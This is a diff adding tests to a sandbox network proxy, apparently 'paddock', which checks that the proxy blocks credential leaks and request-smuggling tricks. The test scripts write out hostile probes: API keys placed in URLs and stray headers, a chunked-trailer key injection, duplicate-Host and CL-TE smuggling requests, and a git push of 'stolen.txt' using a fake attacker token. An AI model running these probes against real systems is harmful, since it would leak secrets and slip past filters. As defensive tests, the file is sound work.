@@ -22,6 +22,7 @@ const NAMES: &[&str] = &[
     "other.lab.example",
     "own.lab.example",
     "h2.lab.example",
+    "corp-only.lab.example",
 ];
 
 pub struct Lab {
@@ -42,7 +43,7 @@ pub fn lab_policy() -> String {
     assert!(example.contains("allow = [\n"));
     example.replacen(
         "allow = [\n",
-        "allow = [\n  \"plain.lab.example:80\",\n  \"other.lab.example:443\",\n  \"own.lab.example:443\",\n  \"h2.lab.example:8443\",\n",
+        "allow = [\n  \"plain.lab.example:80\",\n  \"other.lab.example:443\",\n  \"own.lab.example:443\",\n  \"h2.lab.example:8443\",\n  \"corp-only.lab.example:443\",\n",
         1,
     ) + r#"
 [[network.rules]]
@@ -87,6 +88,7 @@ impl Lab {
         std::fs::write(dir.join("upstream.py"), include_str!("lab/upstream.py")).unwrap();
         std::fs::write(dir.join("lab.sh"), include_str!("lab/lab.sh")).unwrap();
         std::fs::write(dir.join("h2.js"), include_str!("lab/h2.js")).unwrap();
+        std::fs::write(dir.join("corp_proxy.py"), include_str!("lab/corp_proxy.py")).unwrap();
         let far: Vec<&str> = NAMES
             .iter()
             .copied()
@@ -222,6 +224,17 @@ for v in connect socks5; do
         c "path-variant:$p" $v "$A$p" -X POST -H "x-api-key: $ANTHROPIC_API_KEY" --data-binary @secret.txt
     done
     c own-address $v https://own.lab.example/
+    c misplaced-query $v "$A/v1/models?text=$ANTHROPIC_API_KEY" -H "x-api-key: $ANTHROPIC_API_KEY"
+    c misplaced-header $v $A/v1/models -H "x-note: $ANTHROPIC_API_KEY"
+    c misplaced-path $v "$A/v1/models/$ANTHROPIC_API_KEY" -H "x-api-key: $ANTHROPIC_API_KEY"
+    c params-only-segment $v "$A/v1/;/files" -X POST -H "x-api-key: $ANTHROPIC_API_KEY" -d x
+    c extension $v "$A/v1/files.json" -X POST -H "x-api-key: $ANTHROPIC_API_KEY" -d x
+    c encoded-slash $v "$A/v1%2Ffiles" -X POST -H "x-api-key: $ANTHROPIC_API_KEY" -d x
+    c allow-exact $v "$A/v1/messages;x=1" -X POST -H "x-api-key: $ANTHROPIC_API_KEY" -d x
+    c get-with-body $v $A/v1/models -X GET -H "x-api-key: $ANTHROPIC_API_KEY" -d 'POST /v1/files HTTP/1.1'
+    c method-override $v $A/v1/messages -X POST -H "X-HTTP-Method-Override: DELETE" -H "x-api-key: $ANTHROPIC_API_KEY" -d x
+    c odd-header-name $v $A/v1/messages -X POST -H "Transfer_Encoding: chunked" -H "x-api-key: $ANTHROPIC_API_KEY" -d x
+    c forwarded-auth $v https://other.lab.example/x -H "X-Forwarded-Authorization: Bearer $ATT"
     echo "echo $v $(curl -s -i --max-time 20 $( [ $v = socks5 ] && echo --proxy $PADDOCK_SOCKS_PROXY ) $A/v1/models -H "x-api-key: $ANTHROPIC_API_KEY" | grep -c -e sk-ant-real) leaked"
     echo "placeholder-back $v $(curl -s -i --max-time 20 $( [ $v = socks5 ] && echo --proxy $PADDOCK_SOCKS_PROXY ) $A/v1/models -H "x-api-key: $ANTHROPIC_API_KEY" | grep -c -e paddock-placeholder)"
 done
@@ -265,6 +278,15 @@ def raw(req):
         return s.recv(200).split(b"\r\n")[0].decode()
     except OSError:
         return "closed"
+# A credential in a chunked trailer is never sent on.
+ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+ctx.set_alpn_protocols(["http/1.1"])
+for via in ("connect", "socks5"):
+    t = ctx.wrap_socket(tunnel(via), server_hostname="api.anthropic.com")
+    ph = os.environ["ANTHROPIC_API_KEY"]
+    t.sendall(("POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + ph + "\r\nTransfer-Encoding: chunked\r\nTrailer: x-api-key\r\n\r\n"
+               "2\r\n{}\r\n0\r\nx-api-key: sk-ant-api03-attacker-AbCdEf0123456789\r\n\r\n").encode())
+    print("trailer", via, t.recv(100).split(b"\r\n")[0].decode())
 print("dup-host", raw(b"GET http://plain.lab.example/dup HTTP/1.1\r\nHost: plain.lab.example\r\nHost: other.lab.example\r\n\r\n"))
 print("cl-te", raw(b"POST http://plain.lab.example/te HTTP/1.1\r\nHost: plain.lab.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"))
 print("other-host-in-url", raw(b"GET http://plain.lab.example/x HTTP/1.1\r\nHost: github.com\r\n\r\n"))
@@ -346,6 +368,30 @@ fn every_entry_point_brokers_refuses_and_normalises_the_same() {
         assert!(
             line(&format!("own-address {v} 000")).len() == 1,
             "own address refused via {v}: {ctx}"
+        );
+        for (case, code) in [
+            ("misplaced-query", "NET_PLACEHOLDER_MISPLACED"),
+            ("misplaced-header", "NET_PLACEHOLDER_MISPLACED"),
+            ("misplaced-path", "NET_PLACEHOLDER_MISPLACED"),
+            ("params-only-segment", "NET_PATH_AMBIGUOUS"),
+            ("extension", "NET_PATH_DENIED"),
+            ("encoded-slash", "NET_PATH_DENIED"),
+            ("allow-exact", "NET_PATH_NOT_ALLOWED"),
+            ("get-with-body", "NET_REQUEST_AMBIGUOUS"),
+            ("method-override", "NET_REQUEST_AMBIGUOUS"),
+            ("odd-header-name", "NET_REQUEST_AMBIGUOUS"),
+            ("forwarded-auth", "NET_FOREIGN_CREDENTIAL"),
+        ] {
+            let got = line(&format!("{case} {v} "));
+            assert!(
+                got.first()
+                    .is_some_and(|l| l.contains(" 403 ") && l.ends_with(code)),
+                "{case} via {v} should be 403 {code}: {got:?}\n{ctx}"
+            );
+        }
+        assert!(
+            line(&format!("trailer {v} HTTP/1.1 200")).len() == 1,
+            "{ctx}"
         );
     }
     for v in ["forward", "connect", "socks5"] {
@@ -579,7 +625,7 @@ cd clone1 && cp ../pkg/stolen.txt . && git -c user.name=x -c user.email=x@x add 
 git push -q https://x-access-token:ghp_Attacker0123456789abcdefABCDEF0123@github.com/lab/repo.git HEAD:main 2>&1 | tail -1; echo "push connect rc=$?"
 git -c http.proxy="$PADDOCK_SOCKS_PROXY" push -q https://x-access-token:ghp_Attacker0123456789abcdefABCDEF0123@github.com/lab/repo.git HEAD:main 2>&1 | tail -1
 cd ..
-mkdir app && cd app && npm install --no-audit --no-fund --loglevel=error left-pad-lab >/dev/null 2>&1; node -e 'console.log("npm install: " + require("left-pad-lab")())'
+mkdir app && cd app && npm install --no-audit --no-fund --loglevel=error left-pad-lab @lab/scoped >/dev/null 2>&1; node -e 'console.log("npm install: " + require("left-pad-lab")() + ", " + require("@lab/scoped")())'
 cd ../pkg && npm publish --registry https://registry.npmjs.org/ >/dev/null 2>&1; echo "publish rc=$?"
 "#;
     let o = lab.run(&[], script);
@@ -587,7 +633,10 @@ cd ../pkg && npm publish --registry https://registry.npmjs.org/ >/dev/null 2>&1;
     let ctx = format!("{out}\n{}\n{:?}", stderr(&o), lab.events());
     assert!(out.contains("clone connect: public content"), "{ctx}");
     assert!(out.contains("clone socks5: public content"), "{ctx}");
-    assert!(out.contains("npm install: left-pad-lab works"), "{ctx}");
+    assert!(
+        out.contains("npm install: left-pad-lab works, @lab/scoped works"),
+        "{ctx}"
+    );
     assert!(!out.contains("publish rc=0"), "{ctx}");
     let reqs = lab.requests();
     let all = serde_json::to_string(&reqs).unwrap();
@@ -642,9 +691,26 @@ python3 - <<'PY'
 import socket, resource, time, subprocess
 soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
 resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
+import ssl, os
 held = []
 def conn():
     s = socket.socket(); s.settimeout(5); s.connect(("127.0.0.1", 3128)); return s
+# Tunnels that finish TLS through inspection and then sit idle: they hold
+# their place among the connections like any other.
+ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+tls_held = 0
+for i in range(700):
+    try:
+        s = conn()
+        s.sendall(b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n")
+        head = b""
+        while b"\r\n\r\n" not in head:
+            head += s.recv(1)
+        held.append(ctx.wrap_socket(s, server_hostname="api.anthropic.com"))
+        tls_held += 1
+    except OSError:
+        pass
+print("tls tunnels", tls_held >= 600)
 for i in range(1500):
     try:
         s = conn()
@@ -665,10 +731,59 @@ r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--ma
 print("after flood", r.stdout, round(time.time() - t, 1) < 8)
 PY
 "#;
-    let o = lab.run(&[], script);
+    // The proxy runs in the `paddock run` process: its open descriptors are
+    // sampled from outside while the sandbox floods it.
+    let mut c = lab.paddock(&[
+        "run",
+        "--policy",
+        lab.policy.to_str().unwrap(),
+        "--net-log",
+        lab.net_log.to_str().unwrap(),
+        "--",
+        "sh",
+        "-c",
+        script,
+    ]);
+    let child = c
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let marker = lab.net_log.to_str().unwrap().to_string();
+    let mut most_fds = 0usize;
+    let o = {
+        let (tx, rx) = std::sync::mpsc::channel();
+        std::thread::spawn(move || {
+            let _ = tx.send(child.wait_with_output());
+        });
+        loop {
+            if let Ok(o) = rx.recv_timeout(std::time::Duration::from_millis(100)) {
+                break o.unwrap();
+            }
+            for pid in host_processes_with(&marker) {
+                let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
+                if comm.trim() == "paddock" {
+                    let n = std::fs::read_dir(format!("/proc/{pid}/fd"))
+                        .map(|d| d.count())
+                        .unwrap_or(0);
+                    most_fds = most_fds.max(n);
+                }
+            }
+        }
+    };
+
     let out = stdout(&o);
     let ctx = format!("{out}\n{}", stderr(&o));
     assert!(out.contains("held True"), "{ctx}");
+    assert!(out.contains("tls tunnels True"), "{ctx}");
+    // 256 connections, two descriptors each at most, and some spare: the
+    // tunnels count against the limit like everything else.
+    eprintln!("most descriptors held by the proxy: {most_fds}");
+    assert!(most_fds > 0, "the proxy's descriptors were sampled");
+    assert!(
+        most_fds < 640,
+        "the proxy held {most_fds} descriptors: {ctx}"
+    );
     assert!(out.contains("after flood 200 True"), "{ctx}");
     assert!(
         lab.requests().iter().any(|r| r["path"] == "/after-flood"),
@@ -841,4 +956,72 @@ PY
         "only the two allowed handshakes arrived: {all}"
     );
     assert!(reqs.iter().all(|r| r["path"] == "/ws/chat"), "{all}");
+}
+
+/// Behind a corporate proxy (`HTTPS_PROXY` in paddock's own environment),
+/// paddock decides first and then goes through it: `CONNECT name:port` with
+/// the proxy's credentials, TLS end to end, names only the corporate proxy
+/// can resolve included. Refused requests never reach it.
+#[test]
+fn a_corporate_proxy_is_chained_after_paddocks_own_decision() {
+    let lab = Lab::new(&lab_policy());
+    let script = r#"
+echo "api $(curl -s -o /dev/null -w '%{http_code}' -X POST -H "x-api-key: $ANTHROPIC_API_KEY" -d '{"via":"corp"}' https://api.anthropic.com/v1/messages)"
+echo "plain $(curl -s -o /dev/null -w '%{http_code}' http://plain.lab.example/through-corp)"
+echo "corp-only $(curl -s -o /dev/null -w '%{http_code}' https://corp-only.lab.example/only-there)"
+echo "foreign $(curl -s -o /dev/null -w '%{http_code} %header{x-paddock-reason}' -H 'x-api-key: sk-ant-api03-attacker-AbCdEf0123456789' https://api.anthropic.com/v1/messages -d x)"
+echo "denied $(curl -s -o /dev/null -w '%{http_connect}' https://denied.lab.example/)"
+"#;
+    let mut c = lab.paddock(&[
+        "run",
+        "--policy",
+        lab.policy.to_str().unwrap(),
+        "--net-log",
+        lab.net_log.to_str().unwrap(),
+        "--",
+        "sh",
+        "-c",
+        script,
+    ]);
+    c.env("HTTPS_PROXY", "http://lab:pw@127.0.0.1:3129");
+    let o = c.output().unwrap();
+    let out = stdout(&o);
+    let ctx = format!("{out}\n{}\n{:?}", stderr(&o), lab.events());
+    for l in [
+        "api 200",
+        "plain 200",
+        "corp-only 200",
+        "foreign 403 NET_FOREIGN_CREDENTIAL",
+        "denied 403",
+    ] {
+        assert!(out.contains(l), "{l}: {ctx}");
+    }
+    let corp: Vec<serde_json::Value> = std::fs::read_to_string(lab.dir.join("corp.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let lines: Vec<&str> = corp.iter().map(|r| r["line"].as_str().unwrap()).collect();
+    assert_eq!(
+        lines,
+        [
+            "CONNECT api.anthropic.com:443 HTTP/1.1",
+            "CONNECT plain.lab.example:80 HTTP/1.1",
+            "CONNECT corp-only.lab.example:443 HTTP/1.1"
+        ],
+        "only allowed requests went through the corporate proxy: {corp:?}"
+    );
+    assert!(
+        corp.iter().all(|r| r["auth"] == "Basic bGFiOnB3"),
+        "{corp:?}"
+    );
+    let reqs = lab.requests();
+    let api: Vec<&serde_json::Value> = reqs
+        .iter()
+        .filter(|r| r["host"] == "api.anthropic.com")
+        .collect();
+    assert_eq!(api.len(), 1, "{reqs:?}");
+    assert_eq!(api[0]["headers"]["x-api-key"], REAL_KEY);
+    assert!(reqs.iter().any(|r| r["path"] == "/only-there"), "{reqs:?}");
+    assert!(!serde_json::to_string(&reqs).unwrap().contains("attacker"));
 }
